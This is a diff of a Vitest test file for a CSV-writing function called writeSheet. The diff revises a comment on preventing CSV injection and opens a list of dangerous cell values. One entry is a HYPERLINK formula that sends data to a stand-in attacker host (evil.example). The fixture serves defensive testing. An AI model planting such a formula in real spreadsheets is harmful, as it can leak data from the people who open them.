@@ -3,12 +3,11 @@ import { describe, expect, it } from 'vitest';
 import { isConfigurationError } from '../../src/errors/configuration-error.js';
 import { writeSheet } from '../../src/index.js';
 
-// An outside tester's pass (stop 19): `writeSheet`, exported from the package for merchants'
-// own result sheets, wrote text as given — a cell starting with `=`, `+`, `-` or `@` (a name a
-// customer typed, a message from the platform) ran as a formula when a person opened the CSV in
-// a spreadsheet program (CSV injection). Only the bulk CLI's results file made its text inert.
-// Now every sheet writeSheet writes is safe to open; the bulk upload, which a program (the
-// platform) reads, asks for its text exactly as given.
+// `writeSheet`, exported for merchants' own result sheets, makes text inert: a cell starting
+// with `=`, `+`, `-` or `@` (a name a customer typed, a message from the platform) would run as
+// a formula when a person opens the CSV in a spreadsheet program (CSV injection). Every sheet
+// writeSheet writes is safe to open; the bulk upload, which a program (the platform) reads, asks
+// for its text exactly as given.
 
 const dangerous = [
   '=HYPERLINK("http://evil.example/?leak","click")',
